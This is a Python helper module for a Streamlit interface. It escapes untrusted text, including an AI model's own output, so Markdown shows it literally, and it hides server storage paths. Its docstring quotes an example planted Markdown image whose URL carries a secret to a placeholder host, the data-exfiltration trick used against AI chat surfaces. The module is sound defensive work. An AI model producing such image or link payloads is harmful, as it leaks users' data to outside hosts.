"""Untrusted text as plain text on Streamlit surfaces that render Markdown.

Retrieved passages, OCR text, transcripts, file names and the model's own output are data: a planted
``![x](http://host/?q=secret)`` or ``[click](http://host)`` must show as those characters, never as an
image the browser fetches or a link. Text without styling is drawn with ``st.text`` (no parsing at all);
``st.caption``, ``st.info``/``st.error``, ``st.markdown`` and labels parse Markdown, so every untrusted
string that reaches them goes through :func:`plain` first.
"""

from __future__ import annotations

import re
import string

# CommonMark lets a backslash escape any ASCII punctuation character, which then shows literally; this
# also stops Streamlit's ``:color[...]`` and ``$math$``.
_PUNCTUATION = re.compile("([" + re.escape(string.punctuation) + "])")

# GitHub-flavoured Markdown also turns bare addresses into links *after* escapes are resolved
# (``http://…``, ``www.…``, ``name@host``); an invisible word joiner breaks each pattern.
_AUTOLINK = re.compile(r"(?i)(?<=https:)(?=//)|(?<=http:)(?=//)|(?<=\bwww)(?=\.)|(?=@)")
JOINER = "\u2060"


def plain(text: str) -> str:
    """`text` escaped so that Markdown renders it as the same characters (line breaks kept), with no
    link: an invisible word joiner (U+2060) sits inside web and e-mail addresses.

    For text that needs no styling, ``st.text`` (no parsing at all) is simpler; this is for the
    surfaces that only take Markdown (captions, alerts, labels)."""
    escaped = _PUNCTUATION.sub(r"\\\1", _AUTOLINK.sub(JOINER, text))
    return escaped.replace("\r\n", "\n").replace("\n", "  \n")


def hide_paths(text: str, roots: list[str]) -> str:
    """`text` with every path under one of `roots` (the server's data, memory and cache folders) cut to
    its file name: where this server stores things is none of the browser's business."""
    for root in sorted({r.rstrip("/") for r in roots if r and r != "/"}, key=len, reverse=True):
        text = re.sub(re.escape(root) + r"(?:/[^\s'\"/]*)*/([^\s'\"/]+)", r"\1", text)
        text = text.replace(root, "…")
    return text
